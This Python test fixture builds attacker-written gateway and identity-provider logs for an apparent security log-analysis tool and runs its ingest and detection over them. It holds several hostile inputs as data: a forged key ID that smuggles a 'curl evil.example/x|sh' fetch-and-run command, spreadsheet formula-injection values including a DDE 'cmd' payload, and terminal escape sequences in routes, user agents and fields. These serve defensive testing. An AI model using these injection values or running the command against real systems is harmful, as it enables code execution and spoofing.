"""A workspace whose logs were written by an attacker: a forger's kid that is a shell command, token
subs that are spreadsheet formulas, and terminal escape sequences (OSC: set the window title;
7-bit and 8-bit spellings) in a route, a user agent and a sub. Everything goes in through the
real ingest and detect, as it would from a gateway's log."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

OSC = "\x1b]0;owned\x07"          # xterm: set the window title to "owned"
OSC_C1 = "\x9d0;owned\x9c"        # the same in 8-bit controls
KID = "x; curl evil.example/x|sh #" + OSC
FORMULA_SUBS = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
                "\t=1+1", "\r=1+1"]
OSC_SUB = "victim" + OSC
ROUTE = "/api/v1/me/profile"
T0 = dt.datetime(2025, 4, 14, tzinfo=dt.timezone.utc)

#: what a terminal acts on: ESC, BEL, CSI/OSC/ST in 8 bits, the other C1 controls
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\x90")


def _jsonl(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _access(t, sub, jti, kid, route=ROUTE, ua="okhttp/4.12", ip="10.0.0.1") -> dict:
    return {"time": t.isoformat(), "src_ip": ip, "method": "GET", "route": route, "status": 200,
            "user_agent": ua, "actor_type": "customer", "actor_id": sub, "credential_type": "access_token",
            "credential_id": jti, "token_kid": kid}


def write_logs(folder: Path) -> dict[str, Path]:
    access, issuance = [], []
    for n in range(1, 6):  # customers reading their own data with issued tokens
        t = T0 + dt.timedelta(hours=n)
        issuance.append({"time": t.isoformat(), "token_id": f"t{n}", "kid": "k-new", "subject": f"c{n}",
                         "actor_type": "customer", "iat": t.isoformat(),
                         "exp": (t + dt.timedelta(hours=1)).isoformat(), "src_ip": f"10.0.0.{n}"})
        access.append(_access(t + dt.timedelta(minutes=1), f"c{n}", f"t{n}", "k-new", ip=f"10.0.0.{n}"))
    for i, sub in enumerate((FORMULA_SUBS + [OSC_SUB]) * 2):  # the forger: tokens nobody issued
        access.append(_access(T0 + dt.timedelta(hours=8, minutes=i), sub, f"forged-{i}", KID,
                              route=ROUTE + OSC, ua="curl/8" + OSC, ip="203.0.113.7"))
    # a replayed jti with another sub: token.claims_mismatch names the sub as an entity
    access.append(_access(T0 + dt.timedelta(hours=9), OSC_SUB, "t1", "k-new", ip="203.0.113.7"))
    bad = _access(T0 + dt.timedelta(hours=9, minutes=5), "c1", "t1", "k-new", route=ROUTE + OSC)
    bad["status"] = OSC_C1  # quarantined; `custodes quarantine` shows the value
    access.append(bad)
    catalog = folder / "catalog.csv"
    catalog.write_text(f'route,fields\n{ROUTE},name;email\n"{ROUTE + OSC}",name;email;phone\n')
    customers = [{"account_id": sub, "name": "=1+2", "email": "@evil.example", "phone": "+82-10-0000-0000"}
                 for sub in FORMULA_SUBS + [OSC_SUB]]
    return {"access": _jsonl(folder / "gateway.jsonl", access), "issuance": _jsonl(folder / "idp.jsonl", issuance),
            "catalog": catalog, "customers": _jsonl(folder / "customers.jsonl", customers)}


def build(workspace, folder: Path) -> None:
    """Ingest the attacker's logs into ``workspace`` and run detection over them."""
    from custodes.detect.run import detect
    from custodes.lake.ingest import ingest

    for dataset, path in write_logs(folder).items():
        ingest(workspace, dataset, [str(path)])
    detect(workspace, full=True)


def forged_incident(workspace) -> dict:
    from custodes.detect.store import load_incidents

    return next(i for i in load_incidents(workspace) if KID in i["entities"]["kid"])
